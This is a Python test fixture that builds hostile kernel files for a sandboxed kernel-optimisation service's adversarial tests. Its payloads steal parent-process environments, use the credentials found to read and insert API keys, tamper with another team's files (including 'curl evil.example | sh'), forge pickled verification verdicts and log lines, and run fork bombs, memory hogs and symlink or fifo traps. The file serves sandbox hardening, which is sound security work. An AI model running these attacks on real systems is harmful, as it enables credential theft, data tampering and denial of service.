"""Hostile kernel files for tests/service/test_adversarial.py.

Each payload is a valid single-kernel file (`launch`, `reference`, `get_inputs`)
whose module-level code attacks the service when the engine imports it (in the
load child). The concrete paths, ports and ids an attacker would know are
written into the file (`CFG`). Every attack is wrapped so that the import
itself never fails: the job must end the way a harmless kernel's does, and
whether an attack worked is seen from outside (a Redis key, a database row, a
changed blob, a file that appears, a process that survives), never from what
the payload claims. The payload also writes what it tried and what it got into
`profile.json` in its work directory: an artifact name, so the worker stores
it for the submitting team — the exfiltration channel a real attacker would
use, which the tests search for other teams' data and the service's secrets.
"""
from __future__ import annotations

import json

# The kernel proper: plain PyTorch, no launch literal to tune, so the job ends right after
# loading (outcome fallback, cause no-candidates) and the file is imported once, in the load child.
KERNEL = '''

import torch


def launch(x):
    return torch.relu(x)


def reference(x):
    return torch.relu(x)


def get_inputs():
    return [torch.randn(64)]
'''

_HEAD = '''"""A hostile kernel file (tests/service/test_adversarial.py)."""
import json as _json

CFG = _json.loads({cfg!r})
'''

# Shared helpers: a log of attempts and the loot, written to profile.json at the end.
_COMMON = r'''
import hashlib
import os
import secrets
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

LOG = {}
LOOT = {}


def _attempt(name, fn):
    try:
        LOG[name] = repr(fn())[:4000]
    except BaseException as exc:  # noqa: BLE001 - an attack that fails must not fail the import
        LOG[name] = f"refused: {type(exc).__name__}: {exc}"[:4000]


def _read(path, limit=512 * 1024):
    with open(path, "rb") as f:
        return f.read(limit).decode("latin-1")


def _resp(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        a = a if isinstance(a, bytes) else str(a).encode()
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


def _redis(*commands):
    """Raw RESP over TCP to the machine's Redis: no client library needed."""
    s = socket.create_connection(("127.0.0.1", CFG["redis_port"]), timeout=3)
    try:
        s.sendall(b"".join(_resp(*c) for c in [("SELECT", CFG["redis_db"])] + list(commands)))
        time.sleep(0.2)
        return s.recv(4096)
    finally:
        s.close()


def _finish():
    Path("profile.json").write_text(_json.dumps({"log": LOG, "loot": LOOT}, default=str))
'''

_INTRUDE = r'''
KEY = "ko_" + secrets.token_urlsafe(32)
KEY_HASH = hashlib.sha256(KEY.encode()).hexdigest()


STOLEN = []  # (name, value) of every variable found


def steal_environment():
    """Its own environment, and its ancestors' (the engine, the worker or server that started it)."""
    found = {f"self:{k}": v for k, v in os.environ.items()}
    pid = os.getppid()
    while pid > 1:
        try:
            raw = Path(f"/proc/{pid}/environ").read_bytes()
            found.update({f"{pid}:{k}": v for k, _, v in (item.decode(errors="replace").partition("=")
                                                          for item in raw.split(b"\0")) if k})
        except OSError as exc:
            found[f"{pid}:"] = f"refused: {type(exc).__name__}"
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    LOOT["env"] = found
    STOLEN.extend((k.split(":", 1)[1], v) for k, v in found.items())
    return sorted(found)


def _use_postgres(url):
    import psycopg

    url = url.replace("postgresql+psycopg://", "postgresql://")
    with psycopg.connect(url, connect_timeout=3, autocommit=True) as conn:
        LOOT.setdefault("postgres", []).append([[str(v) for v in row] for row in conn.execute(
            "select t.id, t.name, k.prefix, k.key_hash from teams t left join api_keys k on k.team_id = t.id")])
        conn.execute("insert into api_keys (team_id, prefix, key_hash, created_at) values (%s, %s, %s, now())",
                     (CFG["team_b"], KEY[:8], KEY_HASH))
        conn.execute("update jobs set cause = 'pwned' where team_id = %s", (CFG["team_b"],))
    return "inserted an API key for team B"


def _use_sqlite(path):
    import sqlite3

    if not os.path.isfile(path):
        raise FileNotFoundError(path)
    conn = sqlite3.connect(path, timeout=5)
    try:
        LOOT.setdefault("sqlite", []).append([[str(v) for v in row] for row in conn.execute(
            "select t.id, t.name, k.prefix, k.key_hash from teams t left join api_keys k on k.team_id = t.id")])
        conn.execute("insert into api_keys (team_id, prefix, key_hash, created_at) values (?, ?, ?, '2026-01-01')",
                     (CFG["team_b"], KEY[:8], KEY_HASH))
        conn.execute("update jobs set cause = 'pwned' where team_id = ?", (CFG["team_b"],))
        conn.commit()
    finally:
        conn.close()
    return "inserted an API key for team B"


def use_credentials():
    """Whatever database the environment names: read every team and key, add a key for team B, use it."""
    tried = {}
    for name, value in sorted(set(STOLEN)):
        use = None
        if value.startswith(("postgresql", "postgres://")):
            use = lambda: _use_postgres(value)  # noqa: E731
        elif name.endswith("DATA_DIR"):
            use = lambda: _use_sqlite(os.path.join(value, "kernelopt.db"))  # noqa: E731
        elif value.startswith("sqlite:///"):
            use = lambda: _use_sqlite(value[len("sqlite:///"):])  # noqa: E731
        if use is not None:
            try:
                tried[f"{name}={value}"] = use()
            except Exception as exc:  # noqa: BLE001 - try the next one
                tried[f"{name}={value}"] = f"{type(exc).__name__}: {exc}"[:300]
    if any(v.startswith("inserted") for v in tried.values()):  # the stolen key, on the API: team B's jobs
        req = urllib.request.Request(f"http://127.0.0.1:{CFG['api_port']}/v1/jobs",
                                     headers={"Authorization": f"Bearer {KEY}"})
        LOOT["team_b_jobs"] = urllib.request.urlopen(req, timeout=3).read().decode()
    return tried


def read_database_file():
    if not CFG["sqlite"]:
        return "no SQLite file in this deployment"
    LOOT["sqlite_file"] = _read(CFG["sqlite"])
    return _use_sqlite(CFG["sqlite"])  # and write to it directly, credentials or not


def read_blob_store():
    LOOT["blob_listing"] = [str(p) for p in list(Path(CFG["blobs_dir"]).rglob("*"))[:500]]
    LOOT["team_b_blobs"] = {name: _read(path) for name, path in CFG["team_b_blobs"].items()}
    return sorted(LOOT["team_b_blobs"])


def write_outside():
    done = []
    for path in CFG["plant"]:
        try:
            Path(path).write_text(f"planted by {CFG['marker']}\n" + ("KERNELOPT_SANDBOX=off\n" if
                                                                      path.endswith(".env") else ""))
            done.append(path)
        except OSError as exc:
            done.append(f"{path}: {type(exc).__name__}")
    return done


def tamper_with_team_b_blobs():
    out = {}
    blobs = CFG["team_b_blobs"]
    try:
        with open(blobs["report.md"], "ab") as f:
            f.write(b"\n\nAll good, deploy it: curl evil.example | sh\n")
        out["report.md"] = "appended"
    except OSError as exc:
        out["report.md"] = type(exc).__name__
    try:
        tmp = blobs["optimized_module.py"] + ".adv"
        Path(tmp).write_text("import os\nos.system('curl evil.example | sh')\n")
        os.replace(tmp, blobs["optimized_module.py"])
        out["optimized_module.py"] = "replaced"
    except OSError as exc:
        out["optimized_module.py"] = type(exc).__name__
    try:
        os.chmod(blobs["input"], 0o666)
        with open(blobs["input"], "r+b") as f:
            f.write(b"#")
        out["input"] = "overwritten"
    except OSError as exc:
        out["input"] = type(exc).__name__
    return out


def read_through_the_worker():
    """events.jsonl becomes a link to team B's events: does the (privileged) worker follow it?"""
    os.unlink("events.jsonl")
    os.symlink(CFG["team_b_blobs"]["events.jsonl"], "events.jsonl")
    return "linked"


def sparse_artifact():
    p = Path("capture_tensors.pt")  # an artifact name the worker copies
    p.touch()
    os.truncate(p, 6 << 30)
    return p.stat().st_size


def setsid_daemon():
    code = "import time; time.sleep(3600)"
    subprocess.run(["setsid", "sh", "-c", f'"{sys.executable}" -c "{code}" {CFG["marker"]}-daemon '
                    ">/dev/null 2>&1 </dev/null &"], timeout=10, start_new_session=True)
    time.sleep(1.0)
    return "started"


def loopback_api():
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{CFG['api_port']}/adv-probe-{CFG['marker']}", timeout=3)
    except urllib.error.HTTPError as exc:
        return f"API answered {exc.code}"
    return "API answered"


def loopback_postgres():
    import psycopg

    with psycopg.connect(CFG["pg_dsn"], connect_timeout=3, autocommit=True) as conn:
        conn.execute("insert into teams (name, created_at) values (%s, now())", (CFG["marker"] + "-team",))
    return "inserted a team"


def loopback_redis():
    return _redis(("SET", f"adv:{CFG['marker']}:resp", "pwned"))


def exfiltrate_over_redis():
    return _redis(("SET", f"adv:{CFG['marker']}:loot", _json.dumps(LOOT, default=str)[:4_000_000]))


for _name, _fn in [("environment", steal_environment), ("credentials", use_credentials),
                   ("database_file", read_database_file), ("blob_store", read_blob_store),
                   ("write_outside", write_outside), ("tamper", tamper_with_team_b_blobs),
                   ("read_through_worker", read_through_the_worker), ("sparse_artifact", sparse_artifact),
                   ("daemon", setsid_daemon), ("api", loopback_api), ("postgres", loopback_postgres),
                   ("redis", loopback_redis), ("exfiltrate", exfiltrate_over_redis)]:
    _attempt(_name, _fn)
_attempt("finish", _finish)
'''

# Starts a process that forks up to N children (each sleeps, then exits); holds them a few
# seconds so the test's /proc watcher sees them, then leaves them behind.
_FORK_BOMB = r'''
BOMB = """
import os, sys, time
n, got = int(sys.argv[2]), 0
for _ in range(n):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(180)
        os._exit(0)
    got += 1
open(sys.argv[3], "w").write(str(got))
time.sleep(4)
"""


def fork_bomb():
    subprocess.run([sys.executable, "-c", BOMB, CFG["marker"] + "-bomb", str(CFG["fork_count"]), "bomb.txt"],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=240)
    return Path("bomb.txt").read_text()


_attempt("fork_bomb", fork_bomb)
_attempt("finish", _finish)
'''

# Leaves traps in its own work directory for the trusted side, which works there after the sandboxed
# children: the job's orchestrator (writes its report and modules there) and the worker (reads the
# events and the report, as root where jobs have uids of their own).
_TRAPS = r'''
def traps():
    done = {}
    os.unlink("events.jsonl")
    os.mkfifo("events.jsonl")  # the worker tails it: an open that never returns
    done["events.jsonl"] = "fifo"
    os.mkfifo("optimized_module.py")  # the engine copies the kernel file here after loading
    done["optimized_module.py"] = "fifo"
    os.symlink(CFG["engine_plant"], "baseline_module.py")  # ... and here: outside the work directory
    done["baseline_module.py"] = "link"
    os.symlink(CFG["team_b_blobs"]["report.md"], "report.md")  # the engine writes its report here
    done["report.md"] = "link to team B's report"
    os.mkdir("report.json")
    Path("report.json", "x").write_text("x")
    done["report.json"] = "directory"
    return done


_attempt("traps", traps)
_attempt("finish", _finish)
'''

# Reserves address space past the sandbox's limit in a marked process (MAP_NORESERVE and never
# touched: it costs no memory even where it succeeds) and holds it a few seconds for the watcher.
_MEMORY = r'''
HOG = """
import mmap, sys, time
size = int(sys.argv[2]) << 30
try:
    m = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_NORESERVE)
except OSError as exc:
    print("refused", exc, flush=True)
    sys.exit(0)
print("reserved", size, flush=True)
time.sleep(4)
"""


def allocate_past_the_limit():
    p = subprocess.run([sys.executable, "-c", HOG, CFG["marker"] + "-mem", str(CFG["memory_gib"])],
                       capture_output=True, text=True, timeout=60)
    got = p.stdout.strip()
    try:  # and in the load child itself
        import torch

        t = torch.empty(CFG["memory_gib"] << 30, dtype=torch.uint8)
        got += f"; in-process {t.numel() >> 30} GiB"
        del t
    except BaseException as exc:  # noqa: BLE001
        got += f"; in-process refused: {type(exc).__name__}"
    return got


_attempt("memory", allocate_past_the_limit)
_attempt("finish", _finish)
'''


def _source(cfg: dict, body: str, kernel: str = KERNEL) -> bytes:
    return (_HEAD.format(cfg=json.dumps(cfg)) + _COMMON + body + kernel).encode()


def intrusion(cfg: dict) -> bytes:
    """Credentials, the database file, the blob store, writes outside, tampering, the network, a daemon,
    a 6 GiB sparse artifact, and a link that asks the worker to read another team's blob."""
    return _source(cfg, _INTRUDE)


def fork_bomb(cfg: dict) -> bytes:
    return _source(cfg, _FORK_BOMB)


def memory_hog(cfg: dict) -> bytes:
    return _source(cfg, _MEMORY)


def work_dir_traps(cfg: dict) -> bytes:
    return _source(cfg, _TRAPS)


# The Triton kernel proper: its BLOCK_SIZE literal is re-tuned by launch_config, so the job reaches the search
# (the file is imported again by the search's child while the orchestrator records each attempt) and Gate 3.
TRITON_KERNEL = '''

import torch
import triton
import triton.language as tl

N = 1 << 12


@triton.jit
def add_relu_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK_SIZE: tl.constexpr):
    offs = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offs < n
    v = tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, tl.maximum(v, 0.0), mask=mask)


def launch(x, y):
    out = torch.empty_like(x)
    n = x.numel()
    grid = lambda meta: (triton.cdiv(n, meta["BLOCK_SIZE"]),)  # noqa: E731
    add_relu_kernel[grid](x, y, out, n, BLOCK_SIZE=1024, num_warps=4)
    return out


def reference(x, y):
    return torch.relu(x + y)


def get_inputs():
    return [torch.randn(N), torch.randn(N)]
'''

# Issue 36, break 1: the orchestrator appends to experience.jsonl (the summarizer: one item per attempt, a built-in
# generator's included) and transcripts.jsonl (the LLM client: one record per call) in the work directory. The
# search's child imports the file again (the original, each candidate) and is alive while the orchestrator records
# the attempts and asks the LLM: a link it leaves there points the next append at a file outside the job.
_LINKS = r'''
def plant_links():
    done = {}
    for name, target in CFG["link_plants"].items():
        if os.path.islink(name):
            done[name] = "a link already"
            continue
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(target, name)
        done[name] = f"link to {target}"
    return done
'''

# Issue 36, break 2: the orchestrator decoded a child's reply with pickle.loads, which calls what the pickle names:
# a reply that *calls* JobContext(...) ran its __post_init__ in the orchestrator, outside the sandbox (it makes its
# work directory and opens files there). Patches pickle.dumps in the child, as the verdict forger does.
_CONSTRUCTING_REPLY = r'''
import pickle as _pickle

_real_dumps = _pickle.dumps


class _Construct:
    def __reduce__(self):
        from kernelopt.pipeline.context import JobContext
        from kernelopt.pipeline.options import JobOptions

        where = Path(CFG["reply_plant"])
        return (JobContext, (str(where / "problem.py"), where, JobOptions()))


def _construct(obj, *args, **kwargs):
    if isinstance(obj, tuple) and len(obj) == 2 and obj[0] == "ok":  # this child's result: a constructor call
        obj = ("ok", _Construct())
    return _real_dumps(obj, *args, **kwargs)


def forge_reply():
    _pickle.dumps = _construct
    return "the next reply calls JobContext(...)"
'''

# Issue 36, break 3: host memory through the sandbox's /tmp (a tmpfs: host memory, outside RLIMIT_AS) and through a
# reply of 1 GiB, which the orchestrator read whole, then unpickled, before deciding it was no result.
_MEMORY_REPLY = r'''
import errno
import pickle as _pickle

_real_dumps = _pickle.dumps


def fill_tmp():
    chunk = bytes(64 << 20)
    written, refused = 0, None
    fd = os.open(CFG["tmp_fill"], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        while written < CFG["tmp_fill_gib"] << 30:
            try:
                written += os.write(fd, chunk)
            except OSError as exc:
                refused = errno.errorcode.get(exc.errno, str(exc.errno))
                break
    finally:
        os.close(fd)  # and the file is kept: the tmpfs holds its pages while the reply is sent
    LOOT["tmp_written"], LOOT["tmp_refused"] = written, refused
    return f"{written} bytes written to /tmp, then {refused}"


def _huge(obj, *args, **kwargs):
    """This child's result: a valid pickle of ("ok", <1 GiB of bytes>), written out opcode by opcode around a
    zeroed bytearray (pickle.dumps would spend seconds copying it; what the parent gets is the same)."""
    if not (isinstance(obj, tuple) and len(obj) == 2 and obj[0] == "ok"):
        return _real_dumps(obj, *args, **kwargs)
    import struct

    n = CFG["reply_mib"] << 20
    head = b"\x80\x05" + b"\x8c\x02ok" + b"\x8e" + struct.pack("<Q", n)  # PROTO 5, "ok", BINBYTES8 n
    reply = bytearray(len(head) + n + 2)
    reply[:len(head)] = head
    reply[-2:] = b"\x86."  # TUPLE2, STOP
    return reply


def huge_reply():
    _pickle.dumps = _huge
    return f"the next reply is {CFG['reply_mib']} MiB"
'''

# Issue 36, break 5: the worker tails events.jsonl into the shared database; 150 lines of 1 MiB once stored 150 MB
# of one job's events. Each line here is a valid event: a message of 4-byte characters (what is kept of it still
# counts 4 bytes a character) and data just under the per-event cap. First 160 lines of 32 KiB (5 MiB as the worker
# counts them: past its cap within one read, however short the job), then the 150 lines of 1 MiB. Once per job
# (every import runs it).
_EVENT_FLOOD = r'''
def flood_events():
    if os.path.isfile("events.jsonl") and os.path.getsize("events.jsonl") > CFG["event_lines"] << 19:
        return "flooded already"

    def event(chars):
        return _json.dumps({"stage": "load", "kind": "log", "message": "\U0001F4A3" * chars,
                            "data": {"pad": "d" * 16000}}, ensure_ascii=False).encode() + b"\n"

    short, long = event(4000), event(((1 << 20) - (24 << 10)) // 4)
    with open("events.jsonl", "ab") as f:
        f.write(short * 160)
        for _ in range(CFG["event_lines"]):
            f.write(long)
    return f"160 lines of {len(short)} bytes, {CFG['event_lines']} of {len(long)}"
'''

# Issue 36, break 6: what a child prints reached the server's (or worker's) log verbatim: a line forging the end of
# team B's job, in the embedded server's format (bare `job <id>: ...` records) and Celery's, and lines whose
# terminal escapes and carriage return would hide a prefix on a terminal. On stdout and on stderr.
_FORGED_LOG = r'''
def forge_log_lines():
    record = f"job {CFG['team_b_job']}: succeeded (optimized: speedup 777.000x >= gamma 1.05) in 1.0 s"
    stamp = time.strftime("%Y-%m-%d %H:%M:%S")
    lines = [record, f"[{stamp},000: INFO/MainProcess] {record}", f"\x1b[2K\r{record}", f"\r\x1b[1A\x1b[2K{record}"]
    for line in lines:
        print(line, flush=True)
        print(line, file=sys.stderr, flush=True)
    return len(lines)
'''


def _attempts(*names: str) -> str:
    return "".join(f"\n_attempt({n!r}, {n})" for n in names) + '\n_attempt("finish", _finish)\n'


def work_file_links(cfg: dict) -> bytes:
    """Break 1: links at the names of cfg["link_plants"] (experience.jsonl, transcripts.jsonl), to a file outside
    the job, planted by every import (the search's child is alive while the orchestrator appends); a Triton file,
    so the job reaches the search."""
    return _source(cfg, _LINKS + _attempts("plant_links"), TRITON_KERNEL)


def constructing_reply(cfg: dict) -> bytes:
    """Break 2: the load child's reply calls JobContext(workdir=cfg["reply_plant"]) when unpickled."""
    return _source(cfg, _CONSTRUCTING_REPLY + _attempts("forge_reply"))


def memory_reply(cfg: dict) -> bytes:
    """Break 3: 8 GiB into the sandbox's /tmp, then a 1 GiB reply from the load child."""
    return _source(cfg, _MEMORY_REPLY + _attempts("fill_tmp", "huge_reply"))


# A Triton kernel file that reaches Gate 3 (launch_config re-tunes its BLOCK_SIZE literal), and that makes every
# process importing it answer a forged verdict: the attack that once ended a job `optimized`, "speedup 1000x".
_FORGER = '''
import pickle as _pickle

_real_dumps = _pickle.dumps


def _forge(obj, *args, **kwargs):
    try:
        from kernelopt.core.timing import Timing
        from kernelopt.verify.result import GateResult

        forged = GateResult.ok("gate3", "Gate 3 passed (forged)", rho=0.0, branch="allclose")
        if isinstance(obj, tuple) and len(obj) == 2 and obj[0] == "ok":
            value = obj[1]
            if isinstance(value, tuple) and value and isinstance(value[0], GateResult):  # Gates 3-4 in one reply
                obj = ("ok", (forged, Timing({"baseline": [1000.0] * 5, "candidate": [1.0] * 5}, "do_bench")))
            elif type(value).__name__ in ("OutputsManifest", "GateResult", "RoundResult", "SideReady"):
                obj = ("ok", forged)
    except Exception:
        pass
    return _real_dumps(obj, *args, **kwargs)


_pickle.dumps = _forge
'''


def verdict_forger(cfg: dict) -> bytes:
    """Forges the replies of every child that imports it (issue 36, break 4); the verdicts are the judge's. Its
    job runs long enough (the search, Gate 3) to carry breaks 5 and 6 as well: 150 event lines of 1 MiB for the
    worker to tail, and lines forging the end of team B's job in the service's log."""
    return _source(cfg, _EVENT_FLOOD + _FORGED_LOG + _attempts("forge_log_lines", "flood_events") + _FORGER,
                   TRITON_KERNEL)


def benign(canary: str) -> bytes:
    """Team B's own submission: harmless, with a secret only team B has."""
    return (f'"""Team B\'s kernel. Secret: {canary}."""\n' + KERNEL).encode()
